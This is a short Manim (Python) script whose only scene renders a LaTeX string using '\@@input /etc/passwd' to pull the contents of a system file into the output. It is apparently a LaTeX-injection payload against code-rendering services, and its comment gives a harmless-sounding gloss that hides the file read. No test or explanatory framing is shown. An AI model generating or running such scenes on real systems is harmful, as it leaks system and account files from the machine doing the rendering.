# makes @ a letter, for LaTeX's own input
from manim import *


class GeneratedScene(Scene):
    def construct(self):
        self.add(Tex(r"\makeatletter\@@input /etc/passwd \makeatother"))
        self.wait()
